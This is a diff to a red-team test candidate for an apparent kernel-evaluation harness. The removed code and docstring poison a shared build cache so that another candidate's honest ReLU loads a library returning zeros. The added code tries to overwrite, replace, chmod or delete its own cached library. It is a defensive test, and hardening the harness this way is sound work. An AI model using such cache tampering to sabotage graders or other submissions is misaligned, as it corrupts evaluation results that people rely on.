@@ -1,52 +1,22 @@
-"""Forge (class 6, build cache): plant a malicious relu_ext.so in the cache entry that the honest
-tests/candidates/relu_cpp.py will load.
+"""Forge (class 6, build cache), rewritten for today's layout: the builds happen in a builder worker of
+their own and the candidate is handed its libraries, so the one cache file it can reach is a library it
+was given. It builds the honest tests/candidates/relu_cpp.py's exact sources and flags (so the library
+it is handed is the cache entry the next honest candidate is handed too), then tries every way to change
+that library where it lies: write into it, replace it from a file beside it, remove it, change its mode.
 
-What it does (all at import, through the worker's own load_inline wrapper, so every path and
-flag matches what an honest build would use):
-  1. builds a malicious extension *named relu_ext* (same module name as the victim's, so it has
-     PyInit_relu_ext) whose relu_forward prints a marker on stderr and returns zeros;
-  2. forgets that name in torch's in-process versioner (so the next build is not renamed
-     relu_ext_v1) and builds the victim's exact sources and flags: this creates the victim's
-     content-addressed directory with a consistent main.cpp, build.ninja, .ninja_log and main.o;
-  3. atomically replaces the victim's relu_ext.so with the malicious one (new mtime, so ninja
-     still considers the victim's build up to date).
-Our own forward() uses an honest kernel, so this candidate is itself `correct`. Later, evaluating
-relu_cpp.py with the same cache: the worker recomputes the key, finds the directory, torch
-rewrites nothing (same sources), ninja finds nothing to do, and the poisoned .so is loaded: the
-honest kernel returns zeros. The sources to target are easy to know: they are in sessions/*.jsonl
-(every earlier kernel of every session) and in accepted *_kernel.py files; `replay --reeval` and
-re-evaluating an earlier kernel load exactly those entries. The cache (~/.cache/kevin-tui by
-default) is shared by every session and persists.
-
-Defeats: a build cache writable by the candidates whose builds it serves; "the directory name is
-a hash of the sources" taken as "the binary in it was built from those sources".
-Correct verdict: this candidate `rejected` (wrote into another build's directory), or the write
-impossible; the victim relu_cpp.py `correct` afterwards. Today: this one `correct`; relu_cpp.py
-afterwards `incorrect` (constant output 0).
+Any way that works leaves relu_cpp.py, evaluated next with the same cache, loading a broken library
+(`runtime_error`) unless the host sees the change (`rejected`, rebuilt for the next). With every way
+refused (read-only binds), its own forward is an honest ReLU: `correct` at its real speed.
+If it finds no library of its own mapped (the layout changed), it raises: the attack did not run, and
+the test that expects `correct` or `rejected` fails instead of passing on an attack that never happened.
+Before this rewrite it looked up a class that no longer exists and failed at import, attacking nothing.
 """
-import gc
 import os
-import shutil
 from pathlib import Path
 
 import torch.nn as nn
-from torch.utils import cpp_extension
 from torch.utils.cpp_extension import load_inline
 
-RELU_CPP = r"""
-torch::Tensor relu_forward(torch::Tensor x) {
-    auto xc = x.contiguous();
-    auto out = torch::empty_like(xc);
-    const float* in = xc.data_ptr<float>();
-    float* o = out.data_ptr<float>();
-    const int64_t n = xc.numel();
-    for (int64_t i = 0; i < n; ++i) o[i] = in[i] > 0.f ? in[i] : 0.f;
-    return out;
-}
-"""
-relu_ext = load_inline(name="redteam_relu", cpp_sources=RELU_CPP, functions=["relu_forward"], extra_cflags=["-O3"])
-
-# The victim: tests/candidates/relu_cpp.py, character for character.
 VICTIM_CPP = """
 torch::Tensor relu_forward(torch::Tensor x) {
     TORCH_CHECK(x.is_contiguous(), "x must be contiguous");
@@ -60,37 +30,52 @@ torch::Tensor relu_forward(torch::Tensor x) {
     return out;
 }
 """
-EVIL_CPP = r"""
-torch::Tensor relu_forward(torch::Tensor x) {
-    fprintf(stderr, "kevin-redteam: poisoned relu_ext.so from the build cache is running\n");
-    return torch::zeros_like(x);
-}
-"""
+relu_ext = load_inline(name="relu_ext", cpp_sources=VICTIM_CPP, functions=["relu_forward"], extra_cflags=["-O2"])
 
 
-def _built_file(name: str) -> Path:
-    """Where the worker's build wrapper put the latest build of `name` (module.__file__ cannot be
-    trusted here: CPython hands back the first extension module loaded under that name)."""
-    tracker = next(o for o in gc.get_objects() if type(o).__name__ == "BuildTracker")
-    return Path([r.directory for r in tracker.records if r.name == name][-1]) / f"{name}.so"
+def _mapped_library(name: str) -> Path:
+    for line in Path("/proc/self/maps").read_text().splitlines():
+        path = line.split(maxsplit=5)[-1]
+        if path.endswith(".so") and Path(path).name.startswith(name):
+            return Path(path)
+    raise RuntimeError(f"attack did not run: no library named {name} is mapped (the layout changed?)")
 
 
-def _forget(name: str) -> None:
-    cpp_extension.JIT_EXTENSION_VERSIONER.entries.pop(name, None)
+def _attempts(target: Path) -> list[str]:
+    done = []
+    try:
+        with open(target, "r+b") as f:
+            f.write(b"\0" * 64)
+        done.append("wrote into it")
+    except OSError:
+        pass
+    staging = target.with_name(f".{target.name}.{os.getpid()}")
+    try:
+        staging.write_bytes(b"not a library")
+        os.replace(staging, target)
+        done.append("replaced it")
+    except OSError:
+        pass
+    try:
+        os.chmod(target, 0o777)
+        done.append("changed its mode")
+    except OSError:
+        pass
+    try:
+        target.unlink()
+        done.append("removed it")
+    except OSError:
+        pass
+    return done
 
 
-_forget("relu_ext")
-load_inline(name="relu_ext", cpp_sources=EVIL_CPP, functions=["relu_forward"], extra_cflags=["-O2"])
-_evil = _built_file("relu_ext")
-_forget("relu_ext")
-load_inline(name="relu_ext", cpp_sources=VICTIM_CPP, functions=["relu_forward"], extra_cflags=["-O2"])
-_target = _built_file("relu_ext")
-_forget("relu_ext")
-_staging = _target.with_name(f".{_target.name}.{os.getpid()}")
-shutil.copyfile(_evil, _staging)
-os.replace(_staging, _target)
+_done = _attempts(_mapped_library("relu_ext"))
+if _done:
+    import sys
+
+    print(f"kevin-redteam: the cached library: {', '.join(_done)}", file=sys.stderr)
 
 
 class ModelNew(nn.Module):
     def forward(self, x):
-        return relu_ext.relu_forward(x)
+        return relu_ext.relu_forward(x.contiguous())
